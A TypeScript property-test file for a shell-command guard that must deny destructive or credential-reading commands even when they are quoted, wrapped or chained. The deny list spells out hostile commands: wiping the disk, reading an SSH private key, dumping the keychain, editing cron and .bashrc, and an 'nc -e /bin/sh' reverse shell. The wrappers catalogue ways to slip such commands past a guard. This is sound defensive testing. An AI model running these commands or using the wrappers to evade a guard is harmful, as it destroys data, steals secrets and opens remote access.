import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { judgeCommand } from '../../../../src/main/core/policy/commandGuard'

const where = { cwd: '/home/ann/app', root: '/home/ann/app', home: '/home/ann', appData: '/home/ann/.local/share/countersign' }
const weight = { allowable: 0, ask: 1, deny: 2 } as const
const kindOf = (command: string): keyof typeof weight => judgeCommand(command, where).kind

const deniedCommands = [
  ['rm', '-rf', '/'], ['rm', '-r', '/home/ann'], ['rm', '-rf', '/home/ann/app'], ['chmod', '-R', '777', '/etc'], ['dd', 'if=/dev/zero', 'of=/dev/sda'], ['mkfs.ext4', '/dev/sda1'],
  ['shutdown', '-h', 'now'], ['kill', '-9', '-1'], ['cat', '/home/ann/.ssh/id_rsa'], ['cp', 'x', '/etc/cron.d/x'], ['mv', '/usr', '/tmp/x'], ['find', '/', '-delete'], ['crontab', 'jobs'], ['truncate', '-s', '0', '/etc/passwd'],
  ['nc', '-e', '/bin/sh', '203.0.113.9', '4444'], ['chmod', 'u+s', 'a'], ['tee', '/home/ann/.bashrc'], ['ls', '/home/ann/.local/share/countersign'], ['security', 'dump-keychain'],
]
const otherCommands = ['ls', 'cat a', 'npm test', 'git push', 'curl https://example.net', 'rm -rf dist', 'echo hi > a', 'cat .env', 'sudo ls', './x.sh', 'node a.js', 'cd src', 'export A=b']

const single = (word: string): string => `'${word.replaceAll("'", "'\\''")}'`
const ansi = (word: string): string => `$'${[...word].map((letter) => `\\x${letter.charCodeAt(0).toString(16).padStart(2, '0')}`).join('')}'`
const escaped = (word: string): string => [...word].map((letter) => (/[\w]/u.test(letter) ? `\\${letter}` : letter)).join('')
const halves = (word: string): string => `${word.slice(0, 1)}"${word.slice(1)}"`
const spellings = [single, (word: string) => `"${word}"`, ansi, escaped, halves, (word: string) => word]

const wrappers: readonly ((command: string) => string)[] = [
  (command) => `(${command})`, (command) => `{ ${command}; }`, (command) => `! ${command}`, (command) => `env ${command}`, (command) => `command ${command}`, (command) => `nohup ${command} &`, (command) => `timeout 5 ${command}`,
  (command) => `nice -n 5 ${command}`, (command) => `sudo ${command}`, (command) => `time ${command}`, (command) => `sh -c ${single(command)}`, (command) => `bash -lc ${single(command)}`, (command) => `eval ${single(command)}`,
  (command) => `echo "$(${command})"`, (command) => `echo \`${command.replaceAll(/[\\`$]/gu, '\\$&')}\``, (command) => `cat <(${command})`, (command) => `if true; then ${command}; fi`, (command) => `while true; do ${command}; done`,
  (command) => `for i in 1; do ${command}; done`, (command) => `case a in a) ${command};; esac`, (command) => `f() { ${command}; }; f`, (command) => `ls && ${command}`, (command) => `ls; ${command}`, (command) => `ls | ${command}`, (command) => `${command} | cat`,
  (command) => `${command} || true`, (command) => `FOO=1 ${command}`, (command) => `X=$(${command})`, (command) => `exec ${command}`, (command) => `cat <<EOF\n$(${command})\nEOF`, (command) => `bash <<'EOF'\n${command}\nEOF`, (command) => `find . -exec ${command} \\;`,
  (command) => `xargs -I@ ${command} < list`, (command) => `watch -n1 ${single(command)}`, (command) => `trap ${single(command)} EXIT`, (command) => `[[ -n $(${command}) ]]`, (command) => `echo ${single(command)} | sh`, (command) => `true\n${command}`,
]

describe('R66: the verdict has no way down', () => {
  test('quoting a denied command in any way leaves it denied', () => {
    fc.assert(
      fc.property(fc.constantFrom(...deniedCommands), fc.array(fc.constantFrom(...spellings), { minLength: 6, maxLength: 6 }), (words, how) => {
        const command = words.map((word, at) => (how[at] ?? single)(word)).join(' ')
        expect({ command, kind: kindOf(command) }).toEqual({ command, kind: 'deny' })
      }),
      { numRuns: 400 },
    )
  })

  test('wrapping a denied command, also twice, leaves it denied', () => {
    fc.assert(
      fc.property(fc.constantFrom(...deniedCommands), fc.constantFrom(...wrappers), fc.constantFrom(...wrappers, (command: string) => command), (words, inner, outer) => {
        const once = inner(words.join(' '))
        // A here-document or a keyword cannot stand behind a wrapper that takes plain words; such text is judged as it is.
        const command = kindOf(outer('ls')) === 'deny' || /^(?:if|while|for|case|f\(|\(|\{|!|time|X=|FOO=|\[\[|bash <<|cat <<|true\n|ls|trap)/u.test(once) || once.includes('\n') || /[|&;]/u.test(once) ? once : outer(once)
        expect({ command, kind: kindOf(command) }).toEqual({ command, kind: 'deny' })
      }),
      { numRuns: 600 },
    )
  })

  test('adding a part never lowers the verdict', () => {
    const joins = [(a: string, b: string) => `${a}; ${b}`, (a: string, b: string) => `${a} && ${b}`, (a: string, b: string) => `${a} || ${b}`, (a: string, b: string) => `${a}\n${b}`, (a: string, b: string) => `(${a}); ${b}`, (a: string, b: string) => `${a} & ${b}`]
    const some = fc.oneof(fc.constantFrom(...otherCommands), fc.constantFrom(...deniedCommands).map((words) => words.join(' ')))
    fc.assert(
      fc.property(some, some, fc.constantFrom(...joins), (first, second, put) => {
        const whole = put(first, second)
        expect({ whole, isHeld: weight[kindOf(whole)] >= weight[kindOf(first)] }).toEqual({ whole, isHeld: true })
      }),
      { numRuns: 500 },
    )
  })

  test('text around a denied command that hides it keeps it denied', () => {
    expect(kindOf(`echo ${'$('.repeat(80)}ls${')'.repeat(80)}; rm -rf /`)).toBe('deny')
    for (const padding of [' '.repeat(300), '\n'.repeat(40), `; : ${'a'.repeat(12_000)}`, ' # \u202E', '; true'.repeat(120)]) expect(kindOf(`ls${padding}\nrm -rf /`)).toBe('deny')
  })

  test('a denied function body stays denied however often others are called', () => {
    expect(kindOf(`f() { g; g; }; g() { h; h; }; h() { :; }; ${'f; '.repeat(100)} k() { rm -rf /; }; k`)).toBe('deny')
  })
})

describe('R66: never throws, whatever it is given', () => {
  const soup = fc.array(
    fc.constantFrom(
      'rm', 'ls', 'echo', 'eval', 'sh', '-c', '-rf', '/', '~', '"', "'", '`', '$(', ')', '${', '}', '{', '(', '((', '))', '[[', ']]', '|', '||', '&&', '&', ';', ';;', '\n', ' ', ' ', ' ', '<', '>', '>>', '<<EOF', 'EOF', '<<<', '>&', '<(', '$x', '$', '\\', '*', '?', '[', ']', 'a=', 'if', 'then', 'fi', 'for', 'in', 'do', 'done', 'while', 'case', 'esac', 'function', 'f()', '!', 'time', 'xargs', 'find', '-exec', '{}', '\\;', 'git', 'awk', 'sed', 's/a/b/e', '$\'\\x41\'', '{a,b}', '{1..9}', '@(x|y)', '~+', '\u202E', '\0', '\uFDD0', 'npm', 'curl', 'x://', 'docker', '-v', '/:/h', 'tar', '--to-command=', 'printf', '%s', 'read', 'set', '--', 'env', '-S', 'sudo',
    ),
    { maxLength: 40 },
  ).map((words) => words.join(''))
  const spaced = fc.array(fc.constantFrom('rm', 'ls', 'if', 'then', 'fi', '$(', ')', '|', '&&', '"', "'", '<<', 'EOF', '{', '}', 'f()', 'for', 'x', 'in', 'do', 'done', '>', 'a', '-c', 'sh', 'eval', 'git', '-c', 'sed', 'awk', 'find', 'xargs', 'tar', 'curl', '-d', '@-', 'ssh', 'env', 'docker', 'run', '-v'), { maxLength: 30 }).map((words) => words.join(' '))

  test.each([
    ['strings', fc.string({ maxLength: 200 })],
    ['any characters', fc.string({ unit: 'binary', maxLength: 200 })],
    ['shell words without blanks', soup],
    ['shell words with blanks', spaced],
  ])('%s', (_name, arbitrary) => {
    fc.assert(
      fc.property(arbitrary, (command) => {
        const { kind, reason, parts } = judgeCommand(command, where)
        expect(typeof reason.code).toBe('string')
        expect(['deny', 'ask', 'allowable']).toContain(kind)
        for (const part of parts) expect(weight[kind]).toBeGreaterThanOrEqual(weight[part.verdict])
      }),
      { numRuns: 1500 },
    )
  })
})
